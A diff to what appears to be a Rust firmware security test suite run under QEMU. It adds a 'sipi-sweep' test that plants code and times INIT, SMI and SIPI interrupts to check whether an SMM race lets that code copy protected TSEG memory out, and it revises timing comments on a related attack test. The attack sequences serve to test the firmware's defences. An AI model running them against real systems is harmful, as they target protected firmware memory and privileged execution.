@@ -20,6 +20,9 @@
 //!   and a SIPI that QEMU delivers there fetches from linear 0. Only the SMM page tables
 //!   (page 0 not mapped) and the stub's own zero-limit IDT stand between that and the
 //!   planted code: with both, the CPU faults and the machine shuts down; nothing leaks.
+//! - `sipi-sweep`: INIT, SMI, then a SIPI to the planted 16-bit code 0 to 199 us later,
+//!   400 tries: what remains of QEMU's defect when the SIPI lands while the CPU runs the
+//!   stub's few real-mode instructions for the INIT reset state.
 //!
 //! 64-bit planted code writes what it copied out of TSEG into the pen page (mapped in SMM
 //! by design) at [`LOOT`], with [`MARKER`] at [`LOOT_MARKER`]; the 16-bit plant of
@@ -44,6 +47,7 @@ enum Job {
     Slot,
     SipiAttack,
     PenBypass,
+    SipiSweep,
 }
 
 /// The value planted code stores when it ran: "HACK" in little-endian byte order.
@@ -80,6 +84,7 @@ fn job() -> Option<Job> {
         "slot" => Some(Job::Slot),
         "sipi-attack" => Some(Job::SipiAttack),
         "pen-bypass" => Some(Job::PenBypass),
+        "sipi-sweep" => Some(Job::SipiSweep),
         _ => None,
     }
 }
@@ -125,6 +130,13 @@ pub fn run(r: &mut Report, tseg: Option<u32>) {
                 ),
             );
         }
+        Job::SipiSweep => {
+            let Some(t) = tseg else {
+                r.check("init-smi-sipi-sweep", false, format_args!("TSEG not found"));
+                return;
+            };
+            sipi_sweep(r, apic, t, &tm);
+        }
         Job::SipiAttack | Job::PenBypass => {
             let (Some(m), Some(t)) = (monarch, tseg) else {
                 r.check(
@@ -142,10 +154,9 @@ pub fn run(r: &mut Report, tseg: Option<u32>) {
 }
 
 /// A busy-wait clock on the TSC, calibrated once against the PM timer. The waits between
-/// the IPIs use it, not the PM timer: under TCG every PM-timer read takes QEMU's global
-/// lock, which the target vCPU needs to take its INIT and SMI, and a tight polling loop on
-/// the BSP can hold it off for milliseconds (an SMI that arrives before the INIT was
-/// taken is then discarded with it, `docs/qemu.md#t5`).
+/// the IPIs use it rather than the PM timer, so that the BSP's polling makes no I/O exits
+/// (under TCG each takes QEMU's global lock, which the target vCPU needs as well to take
+/// its INIT and SMI).
 struct Clock {
     tsc_per_us: u64,
 }
@@ -400,11 +411,11 @@ fn attack_during_service(
         return;
     };
     // Stretch the service the attack runs during: an INIT to the new CPU (waiting for
-    // SIPI, halted) stays pending and discards the monarch's directed SMI after the
-    // arrival barrier's 50 ms (`docs/qemu.md#t5`), so the barrier goes on to its INIT-SIPI
-    // and gives up on the CPU after about 250 ms (`docs/qemu.md#q-init-strands`), which
-    // host scheduling delays on the BSP cannot close. The APMC 4 at the end finds the CPU
-    // through its insert event and relocates it.
+    // SIPI, halted) stays pending and can discard the monarch's directed SMI after the
+    // arrival barrier's first 50 ms (`docs/qemu.md#t5`), so the barrier goes on to its
+    // later steps (`docs/qemu.md#q-init-strands`): the service was seen to last 70-170 ms,
+    // a window that host scheduling delays on the BSP do not close. The new CPU is still
+    // relocated, in this service or by the APMC 4 at the end (its insert event).
     let _ = lapic::send_ipi(new_apic, lapic::ICR_INIT);
     tm.delay_us(1_000);
     // INIT the target, then SMIs until it runs the OS's pen code (a CPU in the INIT reset
@@ -421,6 +432,7 @@ fn attack_during_service(
         target, in_pen
     );
     set_pen_signal(SIGNAL_BEFORE_SERVICE);
+    let t0 = tm.now_us();
     let _ = lapic::send_ipi(monarch, lapic::ICR_SMI);
     tm.delay_us(1_000);
     if job == Job::PenBypass && in_pen {
@@ -442,6 +454,10 @@ fn attack_during_service(
     // Wait for the service to end: this APMC 4 waits for the SMI lock.
     tm.delay_us(5_000);
     crate::hotplug::raise_apmc4();
+    println!(
+        "payload: init-smi: the service had ended {} ms after its SMI",
+        tm.now_us().wrapping_sub(t0) / 1000
+    );
     let hp = CpuHp::new(&HwPorts);
     hp.select(sel);
     hp.control(cpuhp::CTL_CLEAR_INSERT);
@@ -474,4 +490,53 @@ fn loot_state() -> (bool, bool) {
         }
         (ran, leaked)
     }
+}
+
+/// Tries of [`sipi_sweep`]: delays from 0 to 199 us, each twice.
+const SWEEP_TRIES: u64 = 400;
+
+/// `sipi-sweep`: INIT, SMI, then a SIPI to planted code 0, 1, ... 199 us after the SMI
+/// that enters SMM, each twice. On a QEMU that delivers SIPIs in SMM, a SIPI that lands
+/// between the CPU's SMM entry at its slot and the stub's RSM to the pen (the INIT reset
+/// state's path, a few instructions) runs the OS's 16-bit code in SMM: no firmware change
+/// can close that window, only keep it short (`docs/security.md#platform-precondition`).
+fn sipi_sweep(r: &mut Report, target: u32, tseg: u32, tm: &Clock) {
+    plant(tseg);
+    let vec = attack::sipi_plant() as u32 >> 12;
+    let (mut leaks, mut min, mut max) = (0u32, u64::MAX, 0u64);
+    for k in 0..SWEEP_TRIES {
+        let d = k / 2;
+        // The target halts between tries (the pen, or the planted code's hlt): the INIT
+        // waits for the first SMI and discards it (`docs/qemu.md#t5`); the second enters.
+        let _ = lapic::send_ipi(target, lapic::ICR_INIT);
+        tm.delay_us(2_000);
+        let _ = lapic::send_ipi(target, lapic::ICR_SMI);
+        tm.delay_us(3_000);
+        let _ = lapic::send_ipi(target, lapic::ICR_SMI);
+        tm.delay_us(d);
+        let _ = lapic::send_ipi(target, lapic::ICR_STARTUP | vec);
+        tm.delay_us(3_000);
+        if attack::leak_state().1 || loot_state().1 {
+            println!(
+                "payload: init-smi: sweep: TSEG copied out with the SIPI {} us after the SMI",
+                d
+            );
+            leaks += 1;
+            min = min.min(d);
+            max = max.max(d);
+            plant(tseg);
+        }
+    }
+    r.check(
+        "init-smi-sipi-sweep",
+        leaks == 0,
+        format_args!(
+            "SIPI 0-{} us after the SMI, {} tries: TSEG copied out {} times (SIPI delays {}-{} us)",
+            (SWEEP_TRIES - 1) / 2,
+            SWEEP_TRIES,
+            leaks,
+            if leaks == 0 { 0 } else { min },
+            max
+        ),
+    );
 }
